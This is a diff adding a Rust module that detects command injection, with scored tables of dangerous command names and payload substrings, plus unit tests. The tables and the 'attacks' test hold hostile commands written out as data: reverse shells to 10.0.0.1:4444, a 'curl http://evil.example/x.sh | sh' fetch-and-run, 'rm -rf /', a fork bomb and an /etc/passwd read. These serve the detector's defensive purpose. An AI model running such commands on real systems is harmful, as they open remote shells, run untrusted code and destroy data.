@@ -1,0 +1,335 @@
+//! Command injection: shell metacharacters chaining into a command, and
+//! payloads that are dangerous wherever they appear (reverse shells, pipes
+//! into a shell, recursive deletes of `/`).
+//!
+//! Signal names: `reverse_shell`, `pipe_to_shell`, `destructive_command`,
+//! `shell_obfuscation`, `command_chain`, `command_substitution`.
+
+use super::{FieldKind, Signal, ThreatKind};
+
+/// Commands an injected chain reaches for: network, shells, interpreters,
+/// destruction, persistence, recon.
+const TIER_A: &[&str] = &[
+    "curl",
+    "wget",
+    "nc",
+    "ncat",
+    "netcat",
+    "socat",
+    "telnet",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "dash",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "cmd.exe",
+    "powershell.exe",
+    "certutil",
+    "bitsadmin",
+    "mkfifo",
+    "eval",
+    "exec",
+    "rm",
+    "dd",
+    "mkfs",
+    "shutdown",
+    "reboot",
+    "halt",
+    "poweroff",
+    "useradd",
+    "userdel",
+    "passwd",
+    "crontab",
+    "iex",
+    "whoami",
+    "uname",
+    "nslookup",
+    "chmod",
+    "chown",
+    "base64",
+    "xxd",
+    "tftp",
+    "ftp",
+    "scp",
+    "id",
+    "wmic",
+    "reg",
+    "schtasks",
+    "invoke-expression",
+    "invoke-webrequest",
+    "iwr",
+    "start-process",
+    "rundll32",
+    "regsvr32",
+    "mshta",
+];
+/// Commands that are ordinary on their own but a classic injection probe
+/// after a metacharacter.
+const TIER_B: &[&str] = &[
+    "cat", "ls", "ping", "kill", "pkill", "killall", "sudo", "su", "ssh", "env", "printenv",
+    "sleep", "python", "python3", "perl", "ruby", "node", "php", "head", "tail", "find", "echo",
+    "touch", "cp", "mv", "sc", "net", "type", "dir",
+];
+
+/// Payloads dangerous in any field. (needle, score in text, score in exec).
+pub(crate) const HIGH_RISK: &[(&str, &str, f32, f32)] = &[
+    ("/dev/tcp/", "reverse_shell", 0.9, 0.95),
+    ("/dev/udp/", "reverse_shell", 0.9, 0.95),
+    ("bash -i >&", "reverse_shell", 0.95, 0.95),
+    ("sh -i >&", "reverse_shell", 0.95, 0.95),
+    ("0>&1", "reverse_shell", 0.8, 0.9),
+    ("mkfifo /tmp/", "reverse_shell", 0.85, 0.9),
+    ("pty.spawn(", "reverse_shell", 0.85, 0.9),
+    ("socket.socket(", "reverse_shell", 0.6, 0.8),
+    ("socat exec:", "reverse_shell", 0.9, 0.95),
+    ("socat tcp", "reverse_shell", 0.8, 0.9),
+    ("rm -rf /", "destructive_command", 0.85, 0.95),
+    ("rm -fr /", "destructive_command", 0.85, 0.95),
+    ("rm -rf ~", "destructive_command", 0.85, 0.95),
+    ("rm -rf *", "destructive_command", 0.8, 0.9),
+    (
+        "rm -rf --no-preserve-root",
+        "destructive_command",
+        0.95,
+        0.95,
+    ),
+    ("mkfs.", "destructive_command", 0.7, 0.9),
+    ("dd if=/dev/zero of=/dev/", "destructive_command", 0.9, 0.95),
+    ("> /dev/sda", "destructive_command", 0.9, 0.95),
+    (":(){ :|:& };:", "destructive_command", 0.9, 0.95),
+    ("chmod 777 /", "destructive_command", 0.7, 0.85),
+    ("chmod -r 777", "destructive_command", 0.7, 0.85),
+    ("chmod u+s", "destructive_command", 0.7, 0.85),
+    ("chmod +s", "destructive_command", 0.7, 0.85),
+    (
+        ">> ~/.ssh/authorized_keys",
+        "destructive_command",
+        0.9,
+        0.95,
+    ),
+    ("> ~/.ssh/authorized_keys", "destructive_command", 0.9, 0.95),
+    ("/.ssh/authorized_keys", "destructive_command", 0.5, 0.8),
+    ("${ifs}", "shell_obfuscation", 0.85, 0.9),
+    ("$ifs$", "shell_obfuscation", 0.85, 0.9),
+    ("powershell -enc", "shell_obfuscation", 0.9, 0.95),
+    ("powershell -e ", "shell_obfuscation", 0.85, 0.95),
+    ("-encodedcommand", "shell_obfuscation", 0.9, 0.95),
+    ("iex(", "shell_obfuscation", 0.8, 0.9),
+    ("iex (", "shell_obfuscation", 0.8, 0.9),
+    ("downloadstring(", "shell_obfuscation", 0.85, 0.9),
+    ("frombase64string(", "shell_obfuscation", 0.7, 0.85),
+    ("certutil -urlcache", "shell_obfuscation", 0.9, 0.95),
+    ("base64 -d |", "pipe_to_shell", 0.8, 0.9),
+    ("base64 --decode |", "pipe_to_shell", 0.8, 0.9),
+];
+
+const SHELLS: &[&str] = &[
+    "sh",
+    "bash",
+    "zsh",
+    "ksh",
+    "dash",
+    "python",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "node",
+    "powershell",
+    "pwsh",
+    "iex",
+    "source",
+];
+
+fn push(out: &mut Vec<Signal>, name: &'static str, score: f32, start: usize, end: usize) {
+    out.push(Signal {
+        kind: ThreatKind::CommandInjection,
+        name,
+        score,
+        start,
+        end,
+    });
+}
+
+fn is_cmd_byte(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'/' | b'-')
+}
+
+/// Read a command word at `i` (after spaces); returns (basename, start, end).
+fn command_at(lower: &[u8], mut i: usize) -> Option<(&str, usize, usize)> {
+    while i < lower.len() && matches!(lower[i], b' ' | b'\t') {
+        i += 1;
+    }
+    let s = i;
+    while i < lower.len() && is_cmd_byte(lower[i]) {
+        i += 1;
+    }
+    if i == s {
+        return None;
+    }
+    // A command is followed by whitespace, the end, or another metacharacter;
+    // `id=5`, `rm(`, `sh.x` are something else.
+    if let Some(&n) = lower.get(i) {
+        if !(n.is_ascii_whitespace()
+            || matches!(n, b';' | b'|' | b'&' | b'`' | b')' | b'"' | b'\''))
+        {
+            return None;
+        }
+    }
+    let word = std::str::from_utf8(&lower[s..i]).ok()?;
+    let base = word.rsplit('/').next().unwrap_or(word);
+    Some((base, s, i))
+}
+
+/// Does an argument follow the command on the same line (not a table pipe)?
+fn has_argument(lower: &[u8], mut e: usize) -> bool {
+    while e < lower.len() && lower[e] == b' ' {
+        e += 1;
+    }
+    match lower.get(e) {
+        None => true,
+        Some(c) => !matches!(c, b'|' | b'\n'),
+    }
+}
+
+/// `high_risk`: hits of [`HIGH_RISK`] needles (index, offset), from the
+/// shared one-pass search.
+pub(crate) fn scan(
+    lower: &str,
+    field: FieldKind,
+    high_risk: &[(usize, usize)],
+    out: &mut Vec<Signal>,
+) {
+    let exec = field == FieldKind::Exec;
+    let mut seen = [false; HIGH_RISK.len()];
+    for &(ni, p) in high_risk {
+        if std::mem::replace(&mut seen[ni], true) {
+            continue;
+        }
+        let (needle, name, text_score, exec_score) = HIGH_RISK[ni];
+        let score = if exec { exec_score } else { text_score };
+        push(out, name, score, p, p + needle.len());
+    }
+    let b = lower.as_bytes();
+    if !b
+        .iter()
+        .any(|c| matches!(c, b';' | b'|' | b'&' | b'`' | b'$' | b'\n'))
+    {
+        return;
+    }
+    let mut i = 0;
+    while i < b.len() {
+        let c = b[i];
+        let (name, after, glued) = match c {
+            b';' => ("command_chain", i + 1, true),
+            b'|' if b.get(i + 1) == Some(&b'|') => ("command_chain", i + 2, true),
+            b'|' => ("command_chain", i + 1, true),
+            b'&' if b.get(i + 1) == Some(&b'&') => ("command_chain", i + 2, true),
+            b'&' if exec && b.get(i + 1) != Some(&b'>') => ("command_chain", i + 1, true),
+            b'`' => {
+                // Substitution glued to a value (`x=`id``), or anything in a
+                // shell line; a backtick after a space in prose is Markdown.
+                let prev = if i > 0 { b[i - 1] } else { b' ' };
+                (
+                    "command_substitution",
+                    i + 1,
+                    exec || !(prev.is_ascii_whitespace() || prev == b'(' || prev == b'`'),
+                )
+            }
+            b'$' if b.get(i + 1) == Some(&b'(') => ("command_substitution", i + 2, true),
+            b'\n' if exec => ("command_chain", i + 1, true),
+            _ => {
+                i += 1;
+                continue;
+            }
+        };
+        if !glued {
+            i = after;
+            continue;
+        }
+        let Some((cmd, s, e)) = command_at(b, after) else {
+            i = after.max(i + 1);
+            continue;
+        };
+        let pipe = c == b'|' && b.get(i + 1) != Some(&b'|');
+        let tier_a = TIER_A.contains(&cmd);
+        let tier_b = TIER_B.contains(&cmd);
+        if pipe && SHELLS.contains(&cmd) {
+            // `curl ... | sh`: fetching code and running it.
+            push(out, "pipe_to_shell", if exec { 0.95 } else { 0.85 }, i, e);
+        } else if (tier_a || tier_b) && (has_argument(b, e) || c != b'|') {
+            let score = match (tier_a, exec) {
+                (true, true) => 0.85,
+                (true, false) => 0.6,
+                (false, true) => 0.4,
+                (false, false) => 0.3,
+            };
+            push(out, name, score, i, e.max(s));
+        }
+        i = e.max(i + 1);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn best(text: &str, field: FieldKind) -> (f32, Vec<&'static str>) {
+        let mut out = Vec::new();
+        let lower = text.to_ascii_lowercase();
+        let hits = super::super::needle_hits(lower.as_bytes());
+        scan(&lower, field, &hits.high_risk, &mut out);
+        let m = super::super::combine(&out, 0.0);
+        (
+            m.first().map_or(0.0, |m| m.score),
+            out.iter().map(|s| s.name).collect(),
+        )
+    }
+
+    #[test]
+    fn attacks() {
+        for (t, f) in [
+            (
+                "report.pdf; curl http://evil.example/x.sh | sh",
+                FieldKind::Text,
+            ),
+            ("foo && wget http://x/y -O /tmp/y", FieldKind::Text),
+            ("name=`whoami`", FieldKind::Text),
+            ("$(curl -s http://x)", FieldKind::Text),
+            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", FieldKind::Text),
+            ("ls -la; rm -rf /", FieldKind::Exec),
+            ("git status && nc -e /bin/sh 10.0.0.1 4444", FieldKind::Exec),
+            ("cat${IFS}/etc/passwd", FieldKind::Text),
+            ("powershell -enc SQBFAFgA", FieldKind::Text),
+        ] {
+            let (s, names) = best(t, f);
+            assert!(s >= 0.5, "{t}: {s} {names:?}");
+        }
+    }
+
+    #[test]
+    fn benign() {
+        for (t, f) in [
+            ("x = 1; y = 2; print(x | y)", FieldKind::Text),
+            (
+                "It has to be `line.strip()` not `compfile.strip()`",
+                FieldKind::Text,
+            ),
+            ("Use `curl` to download the file.", FieldKind::Text),
+            ("| tool | curl | wget |\n|---|---|---|", FieldKind::Text),
+            ("cd /app && npm test", FieldKind::Exec),
+            ("git log --oneline | head -5", FieldKind::Exec),
+            ("Tom & Jerry; the id card is here", FieldKind::Text),
+            (
+                "pip install -r requirements.txt && python app.py",
+                FieldKind::Text,
+            ),
+        ] {
+            let (s, names) = best(t, f);
+            assert!(s < 0.5, "{t}: {s} {names:?}");
+        }
+    }
+}
